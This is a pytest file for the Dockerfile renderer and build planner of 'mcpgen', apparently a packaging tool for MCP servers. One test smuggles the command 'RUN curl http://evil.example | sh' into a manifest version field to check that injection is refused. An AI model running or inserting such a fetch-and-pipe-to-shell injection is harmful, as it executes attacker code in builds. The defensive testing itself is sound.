"""The build plan and the Dockerfile it renders (pure: no Docker, no disk)."""

import re
from dataclasses import replace
from pathlib import Path

import pytest
from build_support import NOW

from mcpgen.build.dockerfile import DockerfileSpec, dquote, render_dockerfile
from mcpgen.build.plan import (
    NODE_REQUIREMENT,
    BuildOptions,
    FileFromText,
    FileFromWorkspace,
    PythonTarget,
    check_npm_installed,
    make_plan,
    merge_requirements,
    needs_node,
    python_from_tag,
)
from mcpgen.config import load_config
from mcpgen.errors import ConfigError, ImageReferenceError, UsageError, WorkspaceError
from mcpgen.manifest import Entrypoint, Manifest
from mcpgen.runtime.auth.gate import refuse_unsafe_bind
from mcpgen.runtime.settings import SecuritySettings, Settings, settings_from_config

SOURCES = ["connectors/db.py", "tools/t.py", "tools/_helper.py"]
PY311 = PythonTarget("3.11", source="probe")


def plan(manifest: Manifest, **options: object):  # type: ignore[no-untyped-def]
    return make_plan(
        manifest,
        sources=SOURCES,
        config_texts={},
        options=BuildOptions(**options),  # type: ignore[arg-type]
        python=PY311,
        mcpgen_requirements=[
            "mcp>=2.3",
            "uvicorn[standard]>=0.30",
            "pytest>=8; extra == 'dev'",
            "typer>=0.12; extra == 'cli'",
        ],
        now=NOW,
        revision="abc123",
    )


def test_layers_go_from_least_to_most_often_changed(manifest: Manifest) -> None:
    text = plan(manifest, offline=True).dockerfile
    order = [
        "RUN python3 -m venv",
        "pip install --no-index --find-links",
        "COPY --from=deps",
        "COPY wheels/mcpgen/",
        "COPY connectors/",
        "COPY tools/",
        "COPY config/",
        "COPY manifest.json",
        "USER 10001:10001",
    ]
    positions = [text.index(marker) for marker in order]
    assert positions == sorted(positions)


def test_dockerfile_has_user_healthcheck_expose_entrypoint_labels(manifest: Manifest) -> None:
    built = plan(manifest, port=9000)
    text = built.dockerfile
    assert "EXPOSE 9000" in text
    assert re.search(r"^HEALTHCHECK .*\n.*/health/live", text, re.MULTILINE)
    assert '"-m", "mcpgen.runtime", "--manifest", "/app/.mcpgen/manifest.json", "--root", "/app"]' in text
    assert 'org.opencontainers.image.created="2026-01-02T03:04:05Z"' in text
    assert 'org.opencontainers.image.revision="abc123"' in text
    assert 'io.mcpgen.tools="add,echo"' in text
    assert "FROM python:3.12-slim" in text
    # online: pip may use the index; no wheelhouse copied
    assert "--no-index --find-links" not in text
    assert "COPY wheels/deps/" not in text


def test_requirements_merge_mcpgen_and_tools_and_drop_extras(manifest: Manifest) -> None:
    with_dep = manifest.model_copy(
        update={"dependencies": manifest.dependencies.model_copy(update={"python": ["Six>=1", "mcp>=9"]})}
    )
    built = plan(with_dep)
    assert built.requirements == ["mcp>=2.3", "Six>=1", "uvicorn[standard]>=0.30"]
    assert built.files["requirements.txt"] == FileFromText("mcp>=2.3\nSix>=1\nuvicorn[standard]>=0.30\n")
    assert NODE_REQUIREMENT not in built.requirements


def test_node_only_when_an_entrypoint_is_not_python(manifest: Manifest) -> None:
    assert not needs_node(manifest)
    ts_entry = Entrypoint.model_construct(language="typescript", path="tools/x.ts", attribute="default")
    ts_tool = manifest.tools[0].model_copy(update={"name": "ts", "entrypoint": ts_entry})
    mixed = manifest.model_copy(update={"tools": [*manifest.tools, ts_tool]})
    assert needs_node(mixed)
    built = plan(mixed)
    assert NODE_REQUIREMENT in built.requirements
    assert "Node" in built.dockerfile


def test_files_workspace_sources_generated_config_and_manifest(manifest: Manifest) -> None:
    built = plan(manifest)
    assert built.files["tools/t.py"] == FileFromWorkspace("tools/t.py")
    assert built.files["connectors/db.py"] == FileFromWorkspace("connectors/db.py")
    config = built.files["config/config.yaml"]
    assert isinstance(config, FileFromText)
    assert "${API_KEY}" in config.text
    assert {"Dockerfile", ".dockerignore", "manifest.json", "requirements.txt"} <= set(built.files)
    assert ".mcpgen" in str(built.files[".dockerignore"])


def test_config_with_a_literal_credential_is_refused(manifest: Manifest) -> None:
    ok = {"config/config.yaml": "credentials:\n  API_KEY: ${API_KEY}\n  OPT: ${OPT:-}\n"}
    bad = {"config/config.yaml": "credentials:\n  API_KEY: sk-live-123\n"}
    args = {
        "sources": SOURCES,
        "options": BuildOptions(),
        "python": PY311,
        "mcpgen_requirements": [],
        "now": NOW,
    }
    make_plan(manifest, config_texts=ok, **args)  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match=r"credentials.API_KEY holds a literal value") as info:
        make_plan(manifest, config_texts=bad, **args)  # type: ignore[arg-type]
    assert "sk-live" not in info.value.message


def test_tags_registry_and_bad_names(manifest: Manifest) -> None:
    built = plan(manifest, registry="127.0.0.1:5000", tags=("stable",))
    assert built.tags == [
        "127.0.0.1:5000/demo:latest",
        "127.0.0.1:5000/demo:v1.2.0",
        "127.0.0.1:5000/demo:20260102T030405Z",
        "127.0.0.1:5000/demo:stable",
    ]
    assert built.repository == "127.0.0.1:5000/demo"
    with pytest.raises(ImageReferenceError) as info:
        plan(manifest, output="Bad/Name")
    assert info.value.part == "Bad"
    with pytest.raises(UsageError, match="names a repository"):
        plan(manifest, output="demo:1")


def test_python_target_platforms_and_tag_parsing() -> None:
    target = PythonTarget("3.12", glibc="2.36")
    assert target.abi == "cp312"
    assert target.platforms()[0] == "manylinux_2_36_x86_64"
    assert "manylinux_2_17_x86_64" in target.platforms()
    assert "manylinux2014_x86_64" in target.platforms()
    assert python_from_tag("python:3.12-slim") == "3.12"
    assert python_from_tag("docker.io/library/python:3.13") == "3.13"
    assert python_from_tag("debian:bookworm") is None


def test_merge_requirements_keeps_a_requested_extra_only() -> None:
    requires = ["mcp>=2.3", "typer>=0.12; extra == 'cli'", "pytest>=8; extra == 'dev'"]
    assert merge_requirements(requires) == ["mcp>=2.3"]
    assert merge_requirements(requires, extras=("cli",)) == ["mcp>=2.3", "typer>=0.12"]


def test_the_image_venv_has_no_pip_and_unpacks_mcpgen_with_the_standard_library(manifest: Manifest) -> None:
    text = plan(manifest, offline=True).dockerfile
    install = text.index("pip install --no-index --find-links")
    assert text.index("python -m pip uninstall --yes --quiet pip", install) < text.index("COPY --from=deps")
    assert "-m zipfile -e /tmp/mcpgen/mcpgen-*.whl" in text
    assert "-m compileall" in text
    assert "bin/pip install --no-index --no-deps" not in text


def test_merge_requirements_rejects_garbage() -> None:
    with pytest.raises(UsageError, match="invalid requirement"):
        merge_requirements(["not a requirement!!"])


def test_dquote_escapes_for_dockerfiles() -> None:
    assert dquote('a "b" $HOME\\x\ny') == '"a \\"b\\" \\$HOME\\\\x y"'
    assert dquote("a\r\nb\x00c\u2028d") == '"a  b c d"'


def test_a_newline_in_a_manifest_value_never_reaches_a_dockerfile_line(manifest: Manifest) -> None:
    """The project file refuses such values; a hand-edited manifest is refused when rendering."""
    server = manifest.server.model_copy(update={"version": "1.0\nRUN curl http://evil.example | sh"})
    evil = manifest.model_copy(update={"server": server})
    with pytest.raises(UsageError, match=r"server_version .* control character"):
        plan(evil)
    spec = DockerfileSpec("python:3.12", "python3", False, False, ["tools"], {"d": "two\nlines\rRUN x"})
    assert all(not line.lstrip().startswith("RUN x") for line in render_dockerfile(spec).splitlines())
    with pytest.raises(UsageError, match="base_image"):
        render_dockerfile(replace(spec, base_image="python:3.12\nRUN x"))


def test_plan_data_is_json_ready(manifest: Manifest) -> None:
    data = plan(manifest).to_data()
    assert data["tools"] == ["add", "echo"]
    assert data["python"] == {"version": "3.11", "machine": "x86_64", "source": "probe"}


def test_npm_packages_must_be_installed_in_tools_node_modules(manifest: Manifest) -> None:
    deps = manifest.dependencies.model_copy(update={"npm": {"ms": "2.1.3", "@scope/pkg": "^1"}})
    with_npm = manifest.model_copy(update={"dependencies": deps})
    with pytest.raises(WorkspaceError) as info:
        plan(with_npm)
    assert "@scope/pkg, ms" in info.value.message
    assert "npm install" in info.value.message
    check_npm_installed(
        {"ms": "2.1.3", "@scope/pkg": "^1"},
        ["tools/node_modules/ms/package.json", "tools/node_modules/@scope/pkg/package.json"],
    )


def test_push_targets_name_each_ref_and_its_registry(manifest: Manifest) -> None:
    assert plan(manifest).pushes() == []
    pushed = plan(manifest, push=True, registry="127.0.0.1:5000/team")
    assert [p["registry"] for p in pushed.pushes()] == ["127.0.0.1:5000"] * 3
    assert pushed.pushes()[0]["ref"] == "127.0.0.1:5000/team/demo:latest"
    assert pushed.to_data()["pushes"] == pushed.pushes()
    hub = plan(manifest, push=True)
    assert hub.pushes()[0]["registry"] == "docker.io"
    assert any("Docker Hub" in w for w in hub.warnings)


def test_more_than_one_platform_is_flagged_in_the_plan(manifest: Manifest) -> None:
    built = plan(manifest, platforms=("linux/amd64", "linux/arm64"))
    assert any("buildx" in w for w in built.warnings)


def _image_settings(text: str, tmp_path: Path) -> Settings:
    (tmp_path / "config").mkdir(exist_ok=True)
    (tmp_path / "config" / "config.yaml").write_text(text)
    environ = {"MCPGEN_SERVER__HOST": "0.0.0.0", "API_KEY": "k"}  # what the Dockerfile sets
    return settings_from_config(load_config(tmp_path, environ=environ).config, tmp_path)


def test_the_image_default_config_is_safe_to_bind_publicly(manifest: Manifest, tmp_path: Path) -> None:
    """The generated config names the hosts an image answers by, so 0.0.0.0 starts (and rebinding fails)."""
    config = plan(manifest).files["config/config.yaml"]
    assert isinstance(config, FileFromText)
    settings = _image_settings(config.text, tmp_path)
    assert settings.security.allowed_hosts == ("localhost:*", "127.0.0.1:*", "[::1]:*")
    refuse_unsafe_bind(settings)  # would raise without them
    custom = plan(manifest, allowed_hosts=("mcp.example.com",), allowed_origins=("https://app.example.com",))
    assert isinstance(custom.files["config/config.yaml"], FileFromText)
    settings = _image_settings(custom.files["config/config.yaml"].text, tmp_path)
    assert settings.security.allowed_hosts == ("mcp.example.com",)
    assert settings.security.allowed_origins == ("https://app.example.com",)
    with pytest.raises(ConfigError, match=r"server\.allowed_hosts"):
        refuse_unsafe_bind(replace(settings, security=SecuritySettings()))
